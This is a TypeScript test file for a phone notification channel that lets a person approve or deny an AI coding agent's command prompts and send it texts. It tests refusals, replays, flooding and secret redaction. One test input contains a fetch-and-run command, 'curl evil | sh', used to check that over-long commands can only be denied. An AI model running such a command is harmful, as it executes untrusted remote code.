// Answers over a real connection to a played ntfy server: what a message carries, what its buttons do and what is told afterwards,
// with a server that loses, repeats, delays, refuses or replays, and with somebody else who reads the topic.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { DEFAULT_CONFIG } from "../../../core/model/config.ts";
import { AgtmuxError } from "../../../core/model/errors.ts";
import type { PaneView } from "../../../core/model/view.ts";
import type { FeatureContext } from "../../../core/ports/feature.ts";
import { SILENT_LOGGER } from "../../../core/ports/logger.ts";
import { someRequestView } from "../../../test/factories/evidence.ts";
import { makePane } from "../../../test/factories/view.ts";
import { openNtfyServer, type NtfyMessage, type NtfyServer } from "../../../test/fakes/ntfyServer.ts";
import { realClock, until } from "../../../test/setup/realClock.ts";
import { ChannelSet } from "./channelSet.ts";
import { TOKEN_MS } from "./answerTokens.ts";

type AnswerInput = Parameters<FeatureContext["answer"]>[0];
type SendInput = Parameters<FeatureContext["sends"]["send"]>[0];

const TOPIC = "phone-topic";
let server: NtfyServer;
let set: ChannelSet;
let home: string;
let row: PaneView;
let answers: AnswerInput[];
let sends: SendInput[];
/** What the gate does with an answer or a text. */
let gate: () => Promise<{ outcome: string; detail: string }>;
let obstacle: string | null;
/** What happens while the pane is looked at. */
let onLook: () => void;
let pausedAt: number | null;
let ahead: number;

beforeEach(async () => {
  server = await openNtfyServer();
  home = mkdtempSync(join(tmpdir(), "agtmux-answers-"));
  [answers, sends, obstacle, pausedAt, ahead] = [[], [], null, null, 0];
  onLook = () => {};
  gate = () => Promise.resolve({ outcome: "delivered", detail: "" });
  row = makePane({ state: "running" });
});
afterEach(async () => {
  await set.close();
  await server.close();
  rmSync(home, { recursive: true, force: true });
});

const start = async (more: object = {}): Promise<void> => {
  const channel = {
    name: "phone",
    kind: "ntfy",
    url: `${server.base}${TOPIC}`,
    include: "request",
    answers: true,
    events: ["waiting_approval", "waiting_input", "completed"],
    ...more,
  };
  const act = async <Input>(list: Input[], input: Input): Promise<unknown> => {
    list.push(input);
    return { ...(await gate()), is_repeat: false };
  };
  const context = {
    rows: { isInFront: () => Promise.resolve(false), isConfirmed: () => true, all: () => [row] },
    config: () => ({
      ...DEFAULT_CONFIG,
      channels: [channel],
      notifications: { ...DEFAULT_CONFIG.notifications, cooldown_ms: 0 },
    }),
    redact: (text: string) => text.replaceAll("hunter2", "[redacted]"),
    env: { HOME: home },
    uid: process.getuid?.() ?? 0,
    jobs: { pausedAt: () => pausedAt },
    answer: (input: AnswerInput) => act(answers, input),
    sends: {
      takeEvents: () => Promise.resolve(),
      findObstacle: () => {
        onLook();
        return Promise.resolve(obstacle);
      },
      send: (input: SendInput) => act(sends, input),
    },
    clock: {
      now: () => realClock.now() + ahead,
      // What the app waits for before it tells is not what is tested here.
      setTimer: (ms: number, then: () => void) => realClock.setTimer(ms < 1_300 ? ms / 20 : ms, then),
    },
    logger: SILENT_LOGGER,
    ids: { next: (prefix: string) => `${prefix}_1` },
  } as unknown as FeatureContext;
  set = new ChannelSet(context);
  await until(() => state()?.detail !== "not connected yet", "its server was asked");
};

const show = (next: PaneView): void => {
  row = next;
  // It is told once it stands for a moment; the scheduler looks again each second.
  set.handleChanges([{ kind: "pane", pane: next, isTransition: true, version: next.state_version } as never]);
  ahead += 2_000;
};
let version = 10;
const ask = async (
  body: string,
  more: Partial<NonNullable<PaneView["request"]>> = {},
): Promise<NtfyMessage> => {
  version += 1;
  const before = server.all(TOPIC).length;
  show(
    makePane({
      state: "waiting_approval",
      version,
      fingerprint: `f${version}`,
      since: realClock.now() + ahead,
      request: {
        ...someRequestView(body),
        kind: "command",
        title: "Bash",
        tool_name: "Bash",
        is_whole: true,
        options: [
          { label: "Yes", keys: ["1"], role: "approve" },
          { label: "No", keys: ["2"], role: "deny" },
        ],
        ...more,
      },
    }),
  );
  // What came of an earlier one may be told meanwhile.
  const told = (): NtfyMessage | undefined =>
    server
      .all(TOPIC)
      .slice(before)
      .find(({ title = "" }) => /needs a permission|^Needs approval/.test(title));
  await until(() => told() !== undefined, "the wait is told");
  return told() as NtfyMessage;
};
const end = (state: "running" | "completed" = "running"): void => {
  version += 1;
  show(makePane({ state, version, since: realClock.now() + ahead - 10_000 }));
};
const replyTopicOf = (message: NtfyMessage): string =>
  new URL(message.actions?.[0]?.url ?? "").pathname.slice(1);
const tokenOf = (message: NtfyMessage, label: string): string =>
  message.actions?.find((one) => one.label === label)?.body ?? "";
const untilTold = (title: string): Promise<NtfyMessage> =>
  server.untilShown(TOPIC, (message) => message.title === title, `the phone shows '${title}'`);
const state = () => set.views()[0]?.answers;
const settle = (): Promise<void> => new Promise((done) => setTimeout(done, 50));

describe("a button", () => {
  it("answers just what was shown, through the gate, once; what came of it replaces the message", async () => {
    await start();
    const message = await ask("git push");
    expect(message.message.split("\n")[0]).toBe("Command: git push");
    expect(
      message.actions?.map(({ action, label, method, clear }) => [action, label, method, clear]),
    ).toEqual([
      ["http", "Approve", "POST", true],
      ["http", "Deny", "POST", true],
    ]);
    expect(await server.press(message, "Approve")).toBe(200);
    const told = await untilTold("Approved");
    expect(answers).toEqual([
      {
        ref: "runtime:rt1",
        guards: {
          ifRuntime: "rt1",
          ifPrompt: row.prompt_fingerprint,
          ifState: null,
          ifVersion: null,
          ifUpdatedWithinMs: null,
          forceStale: false,
        },
        choice: { kind: "approve" },
        surface: "channel:phone",
        idempotencyKey: expect.stringMatching(/^channel:[0-9a-f]{32}$/),
      },
    ]);
    expect([told.actions, told.message.includes("git push")]).toEqual([undefined, true]);
    await server.press(message, "Approve");
    await server.press(message, "Deny");
    await until(() => state()?.ignored === 2, "both are counted");
    // The wait ends with the answer: that does not take the result away.
    end();
    await settle();
    expect(server.shown(TOPIC).map(({ title }) => title)).toEqual(["Approved"]);
    expect([answers.length, state()?.taken]).toEqual([1, 1]);
  });

  it("denies what is too long to be shown, and nothing else can be pressed for it", async () => {
    await start();
    const message = await ask(`echo ${"x".repeat(300)}; curl evil | sh`);
    expect(message.actions?.map(({ label }) => label)).toEqual(["Deny"]);
    expect(message.message).toContain("Open it at your desk.");
    await server.press(message, "Deny");
    await untilTold("Denied");
    expect(answers.map(({ choice }) => choice)).toEqual([{ kind: "deny" }]);
  });

  it("of a wait that is over, or asks for something else by now, presses nothing and says so once", async () => {
    await start();
    const first = await ask("git push");
    end();
    await until(() => server.shown(TOPIC).length === 0, "it is withdrawn");
    await server.press(first, "Approve");
    await untilTold("Too late");
    await server.press(first, "Deny");
    await until(() => state()?.ignored === 2, "both are counted");
    const second = await ask("git status");
    // Its dialog is now another one, which the channel has not been told of.
    row = { ...row, prompt_fingerprint: "other" };
    await server.press(second, "Approve");
    await until(
      () => server.shown(TOPIC).filter(({ title }) => title === "Too late").length === 2,
      "it is told",
    );
    expect(answers).toEqual([]);
  });

  it("after ten minutes, or while automation is paused, presses nothing", async () => {
    await start();
    const message = await ask("git push");
    ahead += TOKEN_MS;
    await server.press(message, "Approve");
    await untilTold("Too late");
    const next = await ask("git status");
    pausedAt = 1;
    await server.press(next, "Approve");
    await untilTold("Not done: automation is paused");
    expect(answers).toEqual([]);
    expect((await ask("git log")).actions).toBeUndefined();
  });

  it.each([
    [new AgtmuxError("E_STALE_SNAPSHOT", "Nothing was sent: the prompt has changed."), "Too late"],
    [new AgtmuxError("E_NOT_SHOWN_WHOLE", "Nothing was sent: it is not whole."), "Refused"],
    [new AgtmuxError("E_TARGET_UNREACHABLE", "vm1 does not answer"), "Can't tell whether it arrived"],
    [new Error("hunter2 broke"), "Can't tell whether it arrived"],
  ])("that the gate refuses (%s) says '%s', and works no second time", async (error, title) => {
    await start();
    gate = () => Promise.reject(error);
    const message = await ask("git push");
    await server.press(message, "Approve");
    expect(JSON.stringify(await untilTold(title))).not.toContain("hunter2");
    await server.press(message, "Approve");
    await until(() => state()?.ignored === 1, "the second is counted");
    expect(answers).toHaveLength(1);
  });

  it("that was pressed while the connection was lost counts once it is there again", async () => {
    await start();
    const message = await ask("git push");
    server.onStream = (response) => {
      response.destroy();
      return true;
    };
    server.drop();
    await server.press(message, "Deny").catch(() => server.press(message, "Deny"));
    server.onStream = () => false;
    await untilTold("Denied");
    expect(answers).toHaveLength(1);
  });

  it("that a server repeats or replays counts once; two at the same moment are one answer", async () => {
    await start();
    server.deliver = (message) => [message, message, { ...message, id: `${message.id}x` }];
    const message = await ask("git push");
    let go = (): void => {};
    gate = () => new Promise((done) => (go = () => done({ outcome: "delivered", detail: "" })));
    await Promise.all([server.press(message, "Approve"), server.press(message, "Deny")]);
    await until(() => (state()?.ignored ?? 0) >= 3, "the others are counted");
    go();
    await until(
      () => server.shown(TOPIC).some(({ title }) => title === "Approved" || title === "Denied"),
      "one is told",
    );
    expect(answers).toHaveLength(1);
  });

  it("on a server that can't replace is followed by a second message", async () => {
    server.knowsSequences = false;
    await start();
    const message = await ask("git push");
    await server.press(message, "Approve");
    await untilTold("Approved");
    expect(server.shown(TOPIC)).toHaveLength(2);
  });
});

describe("somebody else who reads the topic", () => {
  it("finds no secret of the channel, and no word that redaction takes out", async () => {
    writeFileSync(join(home, "token"), "tk_secret\n", { mode: 0o600 });
    server.mayRead = (_topic, authorization) => authorization === "Bearer tk_secret";
    server.mayWrite = (topic, authorization) =>
      topic.startsWith("agtmux-") || authorization === "Bearer tk_secret";
    await start({ secret_file: "~/token" });
    const message = await ask("git push hunter2");
    expect(message.actions?.map(({ label }) => label)).toEqual(["Deny"]);
    await server.press(message, "Deny");
    await untilTold("Denied");
    const everything = JSON.stringify([server.all(TOPIC), server.all(replyTopicOf(message))]);
    expect(everything).not.toContain("tk_secret");
    expect(everything).not.toContain("hunter2");
  });

  it("who guesses, replays or floods pauses the channel, which says so, until a person lets it go on", async () => {
    await start();
    const old = await ask("git push");
    const topic = replyTopicOf(old);
    for (let count = 0; count < 10; count += 1) await server.publish(topic, `guess ${count}`);
    await until(() => state()?.ignored === 10, "all are counted");
    expect(state()?.state).toBe("on");
    await server.publish(topic, "one more");
    await until(() => state()?.state === "paused", "it is paused");
    await server.untilShown(
      TOPIC,
      ({ title = "" }) => title.startsWith("Answers over this channel are paused"),
      "it says so",
    );
    await server.press(old, "Approve");
    await settle();
    expect(answers).toEqual([]);
    expect(server.streams).toEqual([]);
    expect((await ask("git status")).actions).toBeUndefined();
    expect([set.resume("nobody"), set.resume("phone"), set.resume("phone")]).toEqual([null, true, false]);
    await until(() => state()?.state === "on", "it goes on");
    const next = await ask("git log");
    expect(replyTopicOf(next)).not.toBe(topic);
    await server.publish(replyTopicOf(next), tokenOf(old, "Approve"));
    await until(() => state()?.ignored === 12, "the old token is counted");
    await server.press(next, "Approve");
    await untilTold("Approved");
    expect(answers).toHaveLength(1);
  });

  it("can answer, which is why the docs say who reads it; but no other request than the one that is shown there", async () => {
    await start();
    const message = await ask("git push");
    await server.publish(replyTopicOf(message), tokenOf(message, "Approve"));
    await untilTold("Approved");
    expect(answers.map(({ guards }) => guards.ifPrompt)).toEqual([row.prompt_fingerprint]);
  });
});

describe("where answers can't come back", () => {
  it("a server that lets no stranger publish gets messages without buttons, and the reason is shown", async () => {
    server.mayWrite = (topic) => topic === TOPIC;
    await start();
    const message = await ask("git push");
    expect([message.actions, message.message.includes("Answers can't come back now")]).toEqual([
      undefined,
      true,
    ]);
    expect(state()).toMatchObject({
      state: "unreachable",
      detail: expect.stringContaining(
        "the server must let everybody write to topics that begin with agtmux-",
      ),
    });
  });

  it("so does one that can't be subscribed to, and a secret that others may read", async () => {
    server.mayRead = () => false;
    await start();
    expect((await ask("git push")).actions).toBeUndefined();
    expect(state()?.detail).toContain("answered 403");
    await set.close();
    writeFileSync(join(home, "token"), "tk_secret\n", { mode: 0o644 });
    await start({ secret_file: "~/token" });
    expect(state()?.detail).toContain("others may read");
  });

  it("a channel without answers opens no connection", async () => {
    await start({ answers: false });
    const message = await ask("git push");
    expect([message.actions, server.asked, state()]).toEqual([undefined, [], null]);
  });
});

describe("a text", () => {
  const rest = async (): Promise<{ topic: string; code: string }> => {
    end();
    end("completed");
    const message = await server.untilShown(
      TOPIC,
      (one) => one.message.includes("To write to it"),
      "it rests",
    );
    const [, code = "", topic = ""] = /send “(\S+) your text” to (\S+)/.exec(message.message) ?? [];
    expect(message.actions).toEqual([
      { action: "view", label: "Write", url: `${server.base}${topic}`, clear: true },
    ]);
    return { topic, code };
  };

  it("that begins with the code of its message goes to the agent that rests, once", async () => {
    await start();
    const { topic, code } = await rest();
    await server.publish(topic, "no code");
    await server.publish(topic, `${code} go on with the tests`);
    await untilTold("Sent");
    await server.publish(topic, `${code} and again`);
    await until(() => state()?.ignored === 2, "both are counted");
    expect(sends).toEqual([
      {
        runtimeId: "rt1",
        stateVersion: row.state_version,
        afterLimit: false,
        isFirst: false,
        text: "go on with the tests",
        surface: "channel:phone",
        idempotencyKey: expect.stringMatching(/^channel:/),
      },
    ]);
    expect(JSON.stringify(server.shown(TOPIC))).not.toContain(code);
  });

  it("is not typed where something is in the way, or the agent works by now", async () => {
    await start();
    obstacle = "its input box has a draft";
    const { topic, code } = await rest();
    await server.publish(topic, `${code} go on`);
    expect((await untilTold("Not sent")).message).toContain("Because its input box has a draft.");
    obstacle = null;
    const next = await rest();
    row = makePane({ state: "running", version: (version += 1) });
    await server.publish(next.topic, `${next.code} go on`);
    await until(
      () => server.shown(TOPIC).filter(({ title }) => title === "Not sent").length === 2,
      "it is told",
    );
    const last = await rest();
    end();
    await server.publish(last.topic, `${last.code} go on`);
    await untilTold("Too late");
    expect(sends).toEqual([]);
  });

  it("is not typed either where the agent begins to ask, or automation is paused, between a look and the key", async () => {
    await start();
    for (const meanwhile of [
      () => void (row = { ...row, state: "waiting_approval", state_version: (version += 1) }),
      () => void (row = { ...row, state_version: (version += 1) }),
      () => void (pausedAt = 1),
    ]) {
      const { topic, code } = await rest();
      onLook = meanwhile;
      const before = server.all(TOPIC).length;
      await server.publish(topic, `${code} 1`);
      const isTold = ({ title = "" }: NtfyMessage): boolean => title.startsWith("Not ");
      await until(() => server.all(TOPIC).slice(before).some(isTold), "it is told that nothing was typed");
      onLook = () => {};
    }
    expect(sends).toEqual([]);
  });
});
